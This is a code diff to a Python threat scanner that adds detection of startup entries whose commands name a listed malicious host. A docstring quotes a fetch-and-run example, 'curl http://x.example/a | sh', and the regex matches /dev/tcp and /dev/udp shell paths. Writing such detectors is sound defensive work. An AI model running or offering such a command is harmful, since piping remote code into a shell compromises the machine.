@@ -12,8 +12,14 @@ from lamsach.indicators.index import MatchIndex, micros
 from lamsach.indicators.urls import normal_url, url_host
 from lamsach.scan.finding import Basis, Finding, Severity
 from lamsach.scan.persistence.machine import Machine, text_lines
+from lamsach.scan.persistence.place import Entry
 
 _PROXY = re.compile(r"""(?i)^\s*(?:export\s+)?(?:https?|all|ftp)_proxy\s*=\s*["']?(?P<url>[^"'\s]+)""")
+_HOST = re.compile(
+    r"(?:[a-z+]{2,12}://(?:[^\s/@]*@)?|/dev/(?:tcp|udp)/|(?<![\w./-]))"
+    r"(?P<host>\[[0-9a-fA-F:.]{2,45}\]|(?:[\w-]{1,63}\.){1,20}[\w-]{1,63})"
+)
+_LONGEST = 20_000  # of one command
 _SETTINGS = ("/etc/environment", "/etc/profile", "/etc/apt/apt.conf")
 
 
@@ -80,6 +86,17 @@ class Watched:
                 host = self._host(found["url"]) if found else ""
                 if host and self._family(host) is not None:
                     yield self._finding("setting", "Proxy of the list", "proxy", f"{path}: {host}")
+
+    def starts(self, entries: Iterable[Entry]) -> Iterator[Finding]:
+        """Yield what starts by itself with a command that names a listed address: ``curl http://x.example/a | sh``."""
+        for each in entries:
+            for host in dict.fromkeys(
+                map(self._host, (found["host"] for found in _HOST.finditer(each.command[:_LONGEST])))
+            ):
+                family = self._family(host) if host else None
+                if family is not None:
+                    place = f"{each.place}: {each.where}: {host}"
+                    yield self._finding("startup", "Start of a listed address", family or "listed address", place)
 
     def told(self, kind: str, place: str, host: str) -> Iterator[Finding]:
         """Yield a finding where a ``name server`` or a ``proxy`` of Windows' settings is listed."""
